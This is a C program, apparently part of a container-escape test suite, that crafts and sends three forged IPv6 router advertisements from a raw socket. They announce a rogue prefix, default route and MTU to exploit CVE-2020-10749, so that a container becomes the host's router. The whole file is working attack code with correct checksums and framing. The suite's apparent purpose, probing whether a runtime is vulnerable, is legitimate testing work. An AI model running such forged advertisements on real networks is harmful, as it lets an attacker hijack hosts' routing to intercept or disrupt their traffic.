/*
 * routeradv: out by making oneself the host's router (CVE-2020-10749).
 *
 *	routeradv IF	three router advertisements on IF: a prefix for
 *			addresses (2001:db8:bad::/64), a default route, an MTU
 *
 * Whether the host took them is seen on the host.
 */
#include "escape.h"

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip6.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

struct frame {
	struct ethhdr eth;
	struct ip6_hdr ip;
	struct nd_router_advert ra;
	struct nd_opt_prefix_info prefix;
	struct nd_opt_mtu mtu;
} __attribute__((packed));

static uint32_t add(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	return sum;
}

static void fill(struct frame *f, const uint8_t mac[6])
{
	static const uint8_t all[6] = {0x33, 0x33, 0, 0, 0, 1};
	size_t len = sizeof(*f) - sizeof(f->eth) - sizeof(f->ip);
	uint32_t sum;

	memset(f, 0, sizeof(*f));
	memcpy(f->eth.h_dest, all, 6);
	memcpy(f->eth.h_source, mac, 6);
	f->eth.h_proto = htons(ETH_P_IPV6);
	f->ip.ip6_vfc = 6 << 4;
	f->ip.ip6_plen = htons((uint16_t)len);
	f->ip.ip6_nxt = IPPROTO_ICMPV6;
	f->ip.ip6_hlim = 255;
	inet_pton(AF_INET6, "fe80::bad", &f->ip.ip6_src);
	inet_pton(AF_INET6, "ff02::1", &f->ip.ip6_dst);
	f->ra.nd_ra_type = ND_ROUTER_ADVERT;
	f->ra.nd_ra_curhoplimit = 64;
	f->ra.nd_ra_router_lifetime = htons(1800);
	f->prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
	f->prefix.nd_opt_pi_len = 4;
	f->prefix.nd_opt_pi_prefix_len = 64;
	f->prefix.nd_opt_pi_flags_reserved =
		ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
	f->prefix.nd_opt_pi_valid_time = htonl(7200);
	f->prefix.nd_opt_pi_preferred_time = htonl(7200);
	inet_pton(AF_INET6, "2001:db8:bad::", &f->prefix.nd_opt_pi_prefix);
	f->mtu.nd_opt_mtu_type = ND_OPT_MTU;
	f->mtu.nd_opt_mtu_len = 1;
	f->mtu.nd_opt_mtu_mtu = htonl(1280);
	sum = add(0, &f->ip.ip6_src, 32);
	sum += (uint32_t)len + IPPROTO_ICMPV6;
	sum = add(sum, &f->ra, len);
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	f->ra.nd_ra_cksum = htons((uint16_t)~sum);
}

int main(int argc, char **argv)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET,
				 .sll_protocol = htons(ETH_P_IPV6)};
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	struct ifreq ifr = {0};
	struct frame f;

	if (argc != 2)
		broken("usage: routeradv IF");
	if (fd < 0)
		held("packet socket: %s", strerror(errno));
	strncpy(ifr.ifr_name, argv[1], IFNAMSIZ - 1);
	if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0)
		broken("%s: %s", argv[1], strerror(errno));
	fill(&f, (const uint8_t *)ifr.ifr_hwaddr.sa_data);
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	for (int i = 0; i < 3; i++) {
		if (sendto(fd, &f, sizeof(f), 0, (void *)&to, sizeof(to)) < 0)
			broken("%s: %s", argv[1], strerror(errno));
		usleep(100000);
	}
	printf("sent\n");
	return 0;
}
